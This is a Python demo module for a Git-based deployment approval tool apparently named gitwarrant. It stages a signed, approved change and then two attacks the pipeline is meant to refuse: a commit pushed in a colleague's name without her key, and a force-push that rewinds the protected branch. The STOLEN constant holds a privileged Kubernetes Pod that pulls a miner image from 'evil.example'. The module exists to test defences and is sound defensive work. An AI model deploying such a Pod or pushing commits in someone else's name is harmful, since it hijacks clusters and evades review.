"""The first act: a change is warranted, a stolen account is refused. Needs Python, git and ssh only.

Nothing here decides: the agent's own pipeline does, on a Git server in a folder.
"""

import shutil
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from secrets import token_bytes

from gitwarrant.config.agent import Agent
from gitwarrant.config.agent_reading import load
from gitwarrant.demo.configuration import REPOSITORY, agent_file, repository_files
from gitwarrant.demo.forge import BRANCH, Forge, Person, make_person
from gitwarrant.git.reading import Repository
from gitwarrant.git.statements import push, store
from gitwarrant.model.canonical import encode
from gitwarrant.model.change import CommitId, SignedStatement
from gitwarrant.model.errors import Refused
from gitwarrant.model.statement import STATEMENT_NAMESPACE, Bind, StatementKind
from gitwarrant.pipeline.candidates import candidate, examine
from gitwarrant.pipeline.delivery import Delivery
from gitwarrant.pipeline.question import Judgement
from gitwarrant.trust.sshsig import sign
from gitwarrant.trust.statements import interval, make

REF = f"refs/heads/{BRANCH}"
LIFETIME = timedelta(days=14)


@dataclass(frozen=True, slots=True)
class Shop:
    """The stage of the story: a Git server, three people, and where trust began."""

    folder: Path
    forge: Forge
    ada: Person
    grace: Person
    mallory: Person
    trusted_at: CommitId

    def agent(self, cluster: dict[str, str], *, state: str) -> Agent:
        """Write the operator's configuration, and read it as the agent does."""
        path = self.agent_file(state)
        text = agent_file(
            self.forge,
            self.grace,
            self.trusted_at,
            state=self.folder / state,
            key=self.folder / "warrant.key",
            cluster=cluster,
        )
        path.write_text(text)
        return load(text.encode(), str(path))

    def agent_file(self, state: str) -> Path:
        """Where the operator's configuration lies: beside the Git server, not in the repository."""
        return self.folder / f"{state}.yaml"


def open_shop(folder: Path) -> Shop:
    """Make the Git server, the keys, and an environment repository whose rules are in place."""
    shutil.rmtree(folder, ignore_errors=True)
    people = [make_person(folder / "keys", name) for name in ("ada", "grace", "mallory")]
    ada, grace, mallory = people
    forge = Forge(folder)
    forge.found()
    forge.lay_out(repository_files(ada, grace, datetime.now(UTC).date()))
    trusted_at = CommitId(forge.commit(grace, "Begin the environments of the shop"))
    forge.push()
    return Shop(folder, forge, ada, grace, mallory, trusted_at)


def three_replicas(shop: Shop) -> str:
    """Ada scales production's web application and its database; a signed commit."""
    shop.forge.edit("production/web.yaml", "replicas: 2", "replicas: 3")
    shop.forge.edit("production/database.yaml", 'max_connections: "100"', 'max_connections: "200"')
    commit = shop.forge.commit(shop.ada, "Make room for the winter sale")
    shop.forge.push()
    return commit


def approve(shop: Shop, base: str, head: str) -> None:
    """Grace reads it and signs an approval, which lies in Git beside the change."""
    reading = Repository(shop.forge.clone)
    change = reading.change(REPOSITORY, REF, CommitId(base), CommitId(head))
    statement = make(
        StatementKind.APPROVE,
        shop.grace.name,
        interval(change),
        bind=Bind.DIFF,
        now=datetime.now(UTC),
        lifetime=LIFETIME,
        nonce=token_bytes(16),
    )
    body = encode(statement)
    signed = SignedStatement(body, sign(str(shop.grace.key), body, STATEMENT_NAMESPACE))
    push(shop.forge.clone, "origin", [store(shop.forge.clone, signed)])


def steal(shop: Shop) -> None:
    """Mallory, in Ada's account but without her key, pushes a privileged Pod in Ada's name."""
    target = shop.forge.clone / "production" / "metrics.yaml"
    target.write_text(STOLEN)
    as_ada = Person("ada", shop.ada.email, shop.mallory.key, shop.mallory.public)
    shop.forge.commit(as_ada, "Add metrics")
    shop.forge.push()


def rewind(shop: Shop, to: str) -> None:
    """Mallory puts the protected branch back to an older, once trusted revision."""
    shop.forge.reset(to)
    shop.forge.push(force=True)


def restore(shop: Shop, to: str) -> None:
    """An administrator puts the branch where it was before Mallory."""
    shop.forge.reset(to)
    shop.forge.push(force=True)


def judged(work: Delivery, environment: str) -> Judgement:
    """What the agent says of the candidate that the Git server serves now; a refused fetch is raised."""
    return examine(work, candidate(work, environment))


def attempt(judge: Callable[[], Judgement]) -> Refused | None:
    """The refusal that an attack met; None: it was let through."""
    try:
        refusals = judge().refusals
    except Refused as refusal:
        return refusal
    return refusals[0] if refusals else None


STOLEN = """\
apiVersion: v1
kind: Pod
metadata:
  name: metrics
spec:
  containers:
    - name: metrics
      image: evil.example/miner:latest
      securityContext:
        privileged: true
"""
